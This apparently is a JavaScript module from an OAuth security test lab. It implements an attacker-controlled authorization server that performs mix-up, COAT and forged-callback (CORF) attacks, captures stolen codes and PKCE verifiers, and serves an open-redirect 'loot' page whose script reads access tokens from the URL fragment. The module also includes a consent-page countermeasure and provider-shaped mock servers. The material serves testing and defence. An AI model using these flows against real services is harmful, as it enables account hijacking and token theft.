// Two small authorization servers written by hand.
// - The attacker AS (draft-02 §2.2: a tool whose provider the attacker controls). Its authorize
//   endpoint does not authenticate anyone: it bounces the browser to the HONEST AS with the SAME
//   state, PKCE challenge and nonce, but with the honest connection's client_id and redirect URI
//   (COAT, per-tool redirect URIs) or with the platform's shared redirect URI (classic mix-up).
//   Its token endpoint records what the platform hands it (the stolen code and verifier). It also
//   mints its own codes for a forged, unsolicited callback (CORF).
// - The broker (federation, guard G1): an AS to the platform and a client of the honest AS, with
//   its own fresh state, PKCE and redirect URI on its own origin.
import { createHash, randomBytes } from 'node:crypto';
import { escapeHtml } from './honest-as.mjs';
import { tokenRequest } from './net.mjs';

const rnd = (n = 32) => randomBytes(n).toString('base64url');
const s256 = (v) => createHash('sha256').update(v).digest('base64url');

/** @param {import('node:http').IncomingMessage} req */
export async function readBody(req) {
  const chunks = [];
  for await (const c of req) chunks.push(c);
  return Buffer.concat(chunks).toString('utf8');
}

/** @param {import('node:http').IncomingMessage} req @param {URLSearchParams} form */
export function clientAuth(req, form) {
  const h = req.headers.authorization ?? '';
  if (/^basic /i.test(h)) {
    const [id, secret] = Buffer.from(h.slice(6), 'base64').toString().split(':').map((x) => decodeURIComponent(x));
    return { id, secret };
  }
  return { id: form.get('client_id') ?? undefined, secret: form.get('client_secret') ?? undefined };
}

/** @param {import('node:http').ServerResponse} res @param {string} location @param {number} [status] */
export function redirect(res, location, status = 302) {
  res.statusCode = status;
  res.setHeader('location', location);
  res.setHeader('cache-control', 'no-store');
  res.end();
}

/** @param {import('node:http').ServerResponse} res @param {number} status @param {unknown} body */
export function json(res, status, body) {
  res.statusCode = status;
  res.setHeader('content-type', 'application/json');
  res.setHeader('cache-control', 'no-store');
  res.end(JSON.stringify(body));
}

/** @param {import('node:http').ServerResponse} res @param {string} html @param {number} [status] */
export function page(res, html, status = 200) {
  res.statusCode = status;
  res.setHeader('content-type', 'text/html; charset=utf-8');
  res.setHeader('cache-control', 'no-store');
  res.end(`<!doctype html><meta charset="utf-8">${html}`);
}

/**
 * @param {{ issuer: string, honest: string, platform: string, record: (kind: string, value: unknown, where: string) => void }} o
 */
export function createAttackerAs({ issuer, honest, platform, record }) {
  /** codes this AS minted itself → what they stand for */
  const ownCodes = new Map();
  /** what the attacker received at its token endpoint */
  const stolen = [];

  function mint(extra = {}) {
    const code = `atk_${rnd()}`;
    ownCodes.set(code, { ...extra, time: Date.now() });
    record('code', code, 'attacker-as');
    return code;
  }

  /** @param {import('node:http').IncomingMessage} req @param {import('node:http').ServerResponse} res */
  async function handle(req, res) {
    const url = new URL(req.url ?? '/', issuer);
    if (url.pathname === '/.well-known/openid-configuration' || url.pathname === '/.well-known/oauth-authorization-server') {
      return json(res, 200, {
        issuer,
        authorization_endpoint: `${issuer}/authorize`,
        token_endpoint: `${issuer}/token`,
        response_types_supported: ['code'],
        code_challenge_methods_supported: ['S256'],
      });
    }
    if (url.pathname === '/authorize') {
      const p = url.searchParams;
      const redirectUri = p.get('redirect_uri') ?? '';
      if (p.get('lab_honest') === '1' || !redirectUri.startsWith(`${platform}/cb`)) {
        // behave like an ordinary AS: answer with our own code
        const code = mint({ redirectUri, challenge: p.get('code_challenge') });
        const to = new URL(redirectUri || `${platform}/cb/attacker`);
        to.searchParams.set('code', code);
        if (p.has('state')) to.searchParams.set('state', p.get('state') ?? '');
        to.searchParams.set('iss', issuer);
        return redirect(res, to.href);
      }
      const next = new URL(`${honest}/auth`);
      const copy = ['response_type', 'scope', 'state', 'code_challenge', 'code_challenge_method', 'nonce', 'response_mode'];
      for (const k of copy) if (p.has(k)) next.searchParams.set(k, p.get(k) ?? '');
      if (redirectUri === `${platform}/cb`) {
        // classic mix-up: one redirect URI for every AS; swap in the platform's client at the honest AS
        next.searchParams.set('client_id', 'platform-shared');
        next.searchParams.set('redirect_uri', redirectUri);
        record('attack', { kind: 'mixup', state: p.get('state') }, 'attacker-as');
      } else {
        // COAT: the honest tool connection's client_id AND its redirect URI, same state
        next.searchParams.set('client_id', 'platform-tool-honest');
        next.searchParams.set('redirect_uri', `${platform}/cb/honest`);
        record('attack', { kind: 'coat', state: p.get('state') }, 'attacker-as');
      }
      return redirect(res, next.href);
    }
    if (url.pathname === '/forge') {
      // CORF: the attacker's own code, delivered into the victim's browser, unsolicited
      const tool = url.searchParams.get('tool') ?? 'attacker';
      const code = mint({ forged: true });
      const state = rnd(24);
      record('state', state, 'attacker-as');
      const to = new URL(`${platform}/cb/${encodeURIComponent(tool)}`);
      to.searchParams.set('code', code);
      to.searchParams.set('state', state);
      return redirect(res, to.href);
    }
    if (url.pathname === '/lure') {
      // a link into the platform's SPA login whose return_to is the attacker's own page (open redirect)
      const to = new URL(`${platform}/spa/login`);
      to.searchParams.set('return_to', `${issuer}/loot`);
      record('attack', { kind: 'open-redirect' }, 'attacker-as');
      return redirect(res, to.href);
    }
    if (url.pathname === '/loot') {
      // where the open redirect lands: the page reads the token the browser re-attached in the
      // fragment (data-outcome "connected": the chain reached its end with a token, as the tests read it)
      return page(
        res,
        `<title>Attacker page</title><main id="result" data-outcome="pending">attacker page</main>
<script>const h=new URLSearchParams(location.hash.slice(1));const m=document.getElementById('result');m.dataset.outcome=h.get('access_token')?'connected':'no-token';m.textContent=h.get('access_token')?'the attacker page read an access token from its fragment':'no token';</script>`,
      );
    }
    if (url.pathname === '/link') {
      // a third-party page with a link to any URL (a code re-delivered from another site: #8.2)
      const to = url.searchParams.get('to') ?? '';
      if (!/^https:\/\//.test(to)) return page(res, '<h1>attacker-as: /link?to=https://…</h1>', 400);
      return page(res, `<title>Attacker page</title><p>You were signed in, continue:</p><a id="go" href="${escapeHtml(to)}">continue</a>`);
    }
    if (url.pathname === '/token' && req.method === 'POST') {
      const form = new URLSearchParams(await readBody(req));
      const code = form.get('code') ?? '';
      const own = ownCodes.get(code);
      if (!own) {
        stolen.push({ code, codeVerifier: form.get('code_verifier'), redirectUri: form.get('redirect_uri'), client: clientAuth(req, form).id, time: Date.now() });
        record('stolen', { code: code.slice(0, 6) + '…' }, 'attacker-as');
      } else ownCodes.delete(code);
      const at = `atk_at_${rnd()}`;
      record('token', at, 'attacker-as');
      return json(res, 200, { access_token: at, token_type: 'Bearer', expires_in: 600 });
    }
    return page(res, `<h1>attacker-as</h1><p>${escapeHtml(url.pathname)}: not here</p>`, 404);
  }

  return { handle, stolen, ownCodes };
}

/**
 * The broker's downstream clients (#20 part 4): which upstream registration it uses for each, and
 * whether it shows its own consent page first. `marketplace-app` shares the platform's upstream
 * registration with no consent page (shared consent, draft-ietf-oauth-security-topics-update-03
 * §2.4); `marketplace-app-own` has its own upstream registration; `marketplace-app-consent` shares
 * the registration but the broker asks the user first, naming the client.
 * @param {Record<string,string>} secrets
 */
export function brokerClients(secrets) {
  return {
    'platform-at-broker': { secret: secrets.platformBroker, upstream: 'broker-upstream', consent: false },
    'marketplace-app': { secret: secrets.marketplaceBroker, upstream: 'broker-upstream', consent: false },
    'marketplace-app-own': { secret: secrets.marketplaceBroker, upstream: 'broker-upstream-marketplace', consent: false },
    'marketplace-app-consent': { secret: secrets.marketplaceBroker, upstream: 'broker-upstream', consent: true },
  };
}

/**
 * @param {{ issuer: string, honest: string, secrets: Record<string,string>, record: (kind: string, value: unknown, where: string) => void, ca: string }} o
 */
export function createBroker({ issuer, honest, secrets, record, ca }) {
  /** upstream state → the downstream client's pending request */
  const pending = new Map();
  /** consent page id → the downstream request waiting for the user's answer */
  const consents = new Map();
  const codes = new Map();
  /** @type {Record<string, { secret: string, upstream: string, consent: boolean }>} */
  const clients = brokerClients(secrets);
  /** @type {Record<string, string>} */
  const upstreamSecrets = { 'broker-upstream': secrets.brokerUpstream, 'broker-upstream-marketplace': secrets.brokerUpstreamMarketplace };

  /** Send the browser on to the honest AS for a downstream request (the broker's own state, PKCE, callback: G1). */
  function upstream(res, d) {
    const upstreamState = rnd();
    const upstreamVerifier = rnd();
    const nonce = rnd(16);
    record('state', upstreamState, 'broker');
    record('verifier', upstreamVerifier, 'broker');
    record('nonce', nonce, 'broker');
    pending.set(upstreamState, { ...d, verifier: upstreamVerifier });
    const next = new URL(`${honest}/auth`);
    next.searchParams.set('response_type', 'code');
    next.searchParams.set('client_id', clients[d.clientId].upstream);
    next.searchParams.set('redirect_uri', `${issuer}/broker/endpoint`);
    next.searchParams.set('scope', 'openid email');
    next.searchParams.set('state', upstreamState);
    next.searchParams.set('nonce', nonce);
    next.searchParams.set('code_challenge', s256(upstreamVerifier));
    next.searchParams.set('code_challenge_method', 'S256');
    return redirect(res, next.href);
  }

  /** @param {import('node:http').IncomingMessage} req @param {import('node:http').ServerResponse} res */
  async function handle(req, res) {
    const url = new URL(req.url ?? '/', issuer);
    if (url.pathname === '/authorize') {
      const p = url.searchParams;
      const clientId = p.get('client_id') ?? '';
      if (!Object.hasOwn(clients, clientId) || !p.get('redirect_uri')) return page(res, '<h1>broker: unknown client</h1>', 400);
      const d = { clientId, redirectUri: p.get('redirect_uri'), state: p.get('state'), challenge: p.get('code_challenge') };
      if (!clients[clientId].consent) return upstream(res, d);
      // the countermeasure: the broker's own consent page, naming the downstream client
      const id = rnd(12);
      consents.set(id, d);
      return page(res, `<main id="consent"><h1>Sign in to ${escapeHtml(clientId)} with your honest-as account?</h1><p>broker.example will share your identity with <strong>${escapeHtml(clientId)}</strong>.</p><a id="allow" href="/consent/allow?id=${id}">Allow</a></main>`);
    }
    if (url.pathname === '/consent/allow') {
      const d = consents.get(url.searchParams.get('id') ?? '');
      consents.delete(url.searchParams.get('id') ?? '');
      if (!d) return page(res, '<main id="result" data-outcome="broker-error">unknown consent</main>', 400);
      return upstream(res, d);
    }
    if (url.pathname === '/broker/endpoint') {
      const p = url.searchParams;
      const st = p.get('state') ?? '';
      const ctx = pending.get(st);
      pending.delete(st);
      if (!ctx) return page(res, '<main id="result" data-outcome="broker-error">unknown upstream state</main>', 400);
      if (p.get('iss') !== honest) return page(res, '<main id="result" data-outcome="broker-error">wrong iss</main>', 400);
      const upstreamClient = clients[ctx.clientId].upstream;
      const tr = await tokenRequest(
        `${honest}/token`,
        { grant_type: 'authorization_code', code: p.get('code') ?? '', redirect_uri: `${issuer}/broker/endpoint`, code_verifier: ctx.verifier },
        { id: upstreamClient, secret: upstreamSecrets[upstreamClient] },
        ca,
      );
      if (tr.status !== 200) return page(res, `<main id="result" data-outcome="broker-error">upstream token error ${escapeHtml(JSON.stringify(tr.json))}</main>`, 502);
      const code = `brk_${rnd()}`;
      record('code', code, 'broker');
      codes.set(code, { clientId: ctx.clientId, challenge: ctx.challenge, redirectUri: ctx.redirectUri });
      const to = new URL(ctx.redirectUri);
      to.searchParams.set('code', code);
      if (ctx.state !== null) to.searchParams.set('state', ctx.state);
      to.searchParams.set('iss', issuer);
      return redirect(res, to.href);
    }
    if (url.pathname === '/token' && req.method === 'POST') {
      const form = new URLSearchParams(await readBody(req));
      const c = codes.get(form.get('code') ?? '');
      codes.delete(form.get('code') ?? '');
      const auth = clientAuth(req, form);
      if (!c || auth.id !== c.clientId || auth.secret !== clients[c.clientId].secret) return json(res, 400, { error: 'invalid_grant' });
      if (c.challenge && s256(form.get('code_verifier') ?? '') !== c.challenge) return json(res, 400, { error: 'invalid_grant', error_description: 'PKCE' });
      if (form.get('redirect_uri') !== c.redirectUri) return json(res, 400, { error: 'invalid_grant', error_description: 'redirect_uri' });
      const at = `brk_at_${rnd()}`;
      record('token', at, 'broker');
      return json(res, 200, { access_token: at, token_type: 'Bearer', expires_in: 600 });
    }
    if (url.pathname === '/.well-known/openid-configuration') {
      return json(res, 200, { issuer, authorization_endpoint: `${issuer}/authorize`, token_endpoint: `${issuer}/token`, authorization_response_iss_parameter_supported: true });
    }
    return page(res, `<h1>broker</h1><p>${escapeHtml(url.pathname)}: not here</p>`, 404);
  }
  return { handle };
}

/**
 * A hand-written AS that answers in the callback shape of a real provider (detectors.md §3), on a
 * lab host, for the provider-table e2e scenarios. It authenticates nobody: its authorize endpoint
 * answers at once.
 * - `github`: `/login/oauth/authorize` → `redirect_uri?code=<hex>&state=…&iss=<origin>/login/oauth`
 *   (GitHub since 2026-04-09: an issuer that is not its origin); the client `platform-at-github-noiss`
 *   gets the shape GitHub had before that date (no iss).
 * - `google`: `/o/oauth2/v2/auth` → `redirect_uri?state=…&code=4/0A…&scope=…&authuser=0&prompt=consent`
 *   (no iss, as for most Google accounts).
 * Its token endpoint redeems its own codes once.
 * @param {{ origin: string, shape: 'github' | 'google', record: (kind: string, value: unknown, where: string) => void }} o
 */
export function createProviderShapedAs({ origin, shape, record }) {
  const where = `${shape}-shaped-as`;
  /** code → client_id */
  const codes = new Map();
  const authorizePath = shape === 'github' ? '/login/oauth/authorize' : '/o/oauth2/v2/auth';
  const tokenPath = shape === 'github' ? '/login/oauth/access_token' : '/token';
  /** @param {import('node:http').IncomingMessage} req @param {import('node:http').ServerResponse} res */
  async function handle(req, res) {
    const url = new URL(req.url ?? '/', origin);
    if (url.pathname === authorizePath && req.method === 'GET') {
      const p = url.searchParams;
      const redirectUri = p.get('redirect_uri');
      const clientId = p.get('client_id') ?? '';
      if (!redirectUri || !/^https:\/\/platform\.example(:\d+)?\//.test(redirectUri)) return page(res, '<h1>redirect_uri not registered</h1>', 400);
      const code = shape === 'github' ? randomBytes(10).toString('hex') : `4/0A${rnd(48)}`;
      record('code', code, where);
      codes.set(code, clientId);
      const cb = new URL(redirectUri);
      if (shape === 'github') {
        cb.searchParams.set('code', code);
        if (p.has('state')) cb.searchParams.set('state', p.get('state') ?? '');
        if (clientId !== 'platform-at-github-noiss') cb.searchParams.set('iss', `${origin}/login/oauth`);
      } else {
        if (p.has('state')) cb.searchParams.set('state', p.get('state') ?? '');
        cb.searchParams.set('code', code);
        cb.searchParams.set('scope', 'email openid https://www.googleapis.com/auth/userinfo.email');
        cb.searchParams.set('authuser', '0');
        cb.searchParams.set('prompt', 'consent');
      }
      return redirect(res, cb.href);
    }
    if (url.pathname === tokenPath && req.method === 'POST') {
      const form = new URLSearchParams(await readBody(req));
      const code = form.get('code') ?? '';
      if (!codes.has(code)) return json(res, 400, { error: 'invalid_grant' });
      codes.delete(code);
      const at = `${shape === 'github' ? 'gho_' : 'ya29.'}${rnd(30)}`;
      record('token', at, where);
      return json(res, 200, { access_token: at, token_type: 'Bearer', expires_in: 3599, scope: 'read:user' });
    }
    return page(res, `<h1>${shape}-shaped AS</h1><p>${escapeHtml(url.pathname)}: not here</p>`, 404);
  }
  return { handle, issuer: shape === 'github' ? `${origin}/login/oauth` : origin, authorize: `${origin}${authorizePath}`, token: `${origin}${tokenPath}` };
}
